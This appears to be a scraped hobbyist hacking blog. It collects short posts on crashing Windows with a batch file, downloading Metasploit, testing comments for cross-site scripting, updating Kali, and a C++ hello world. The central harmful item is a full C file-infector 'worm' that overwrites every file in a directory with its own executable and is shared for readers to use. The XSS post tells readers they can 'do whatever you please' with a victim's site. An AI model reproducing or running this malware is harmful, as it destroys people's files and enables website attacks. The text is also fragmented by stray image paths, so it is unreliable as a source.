how to make a batch file to crash windows

here is the "code"
paste that in a notepad and save it as whateveryou want.bat for example


by running this it will cause windows to lag out and crash.

Metasploit for windows

Hey everyone most people don't know that metasploit which is developed by rapid7 is able to be used on many different operating systems. so I am going to give you guys the download link for that.
Hope this was useful

How to perform a cross site scripting attack

Hey guys this is a tutorial on css or cross site scripting I am not going to go in depth on how the attack works but I will give you the basic idea of in what situation you could use it in. So for example the comments section below every post on my website could possibly be vulnerable (but it is not) but to test it instead of just regularly posting a comment you would attempt to post some code e it HTML or JavaScript. My first examplewould be trying to post html in the comment here is my example. <h1> Hello </h1>

If the comment gets submitted and it does get put in as a header 1 size font then the site is css vulnerable. The next thing you would do is put in some JavaScript. Here is my JavaScript example.
If this goes through then having a basic knowledge of JavaScript is all that is need to do whatever you please with this victims website.

Please remember this is illegal to perform without permission so use this knowledge wisely…How to make a worm in C by alexthed4rk

So my friend alexthed4rk gave me this code it is written in C hope you guys like it.

#include<stdio.h> #include<io.h> #include<dos.h> //Windows Only  #include<dir.h> #include<conio.h> #include<time.h> FILE *virus,*host; int done,a=0; unsigned long x; char buff[2048]; struct ffblk ffblk; clock_t st,end;
void main() { st=clock(); clrscr(); done=findfirst(“*.*”,&ffblk,0); //Search for a file with any extension (*.*) while(!done) { virus=fopen(_argv[0],”rb”); host=fopen(ffblk.ff_name,”rb+”); if(host==NULL) goto next; x=89088; printf(“Infecting %s\n”,ffblk.ff_name,a); while(x>2048) { fread(buff,2048,1,virus); fwrite(buff,2048,1,host); x-=2048; } fread(buff,x,1,virus); fwrite(buff,x,1,host); a++; next: { fcloseall(); done=findnext(&ffblk); } } printf(“DONE! (Total Files Infected= %d)”,a); end=clock(); printf(“TIME TAKEN=%f SEC\n”, (end-st)/CLK_TCK); getch(); } //LOL

how to update kali linux

Hey guy this is just a basic how to on updating kali linux. I will do more of these soon hope you enjoy.

step 1. you should boot up kali linux and the open a terminal.

step 2. enter apt-get update && apt-get upgrade in the terminal and hit enter.

Then let it update it can take up to 10 minutes but it can vary on different internet speeds.

Let me know if you found this useful by giving this a like or a tweet I would appreciate it.

How to make your first program in C ++

Hey guys today I am going to run you through making a basic hello world program using codeblocks.
So for those of you who do not know what C ++ is it is a programming language and in my opinion I find it to be very useful.

Step 1 download codeblocks: codeblocks is a opensource IDE which will allow us to build ourprogram. You can download it from here:

Step 2 making a project: once you download and install the program you want to click the make a new project button . (Also when you are going through the project detail you want to select a console program asthe program type, C++ as the language and GNU GCC Compiler as your compiler.)

Step 3 compiling the program: So by the time you complete the steps the code should look like the image below.

Step 4 build and run the program by now all you have to do is build and run the program and to do this you must click the arrow with the gear on the toolbar or hit F9 to do so, it should end up looking likethis.

Hope you lik…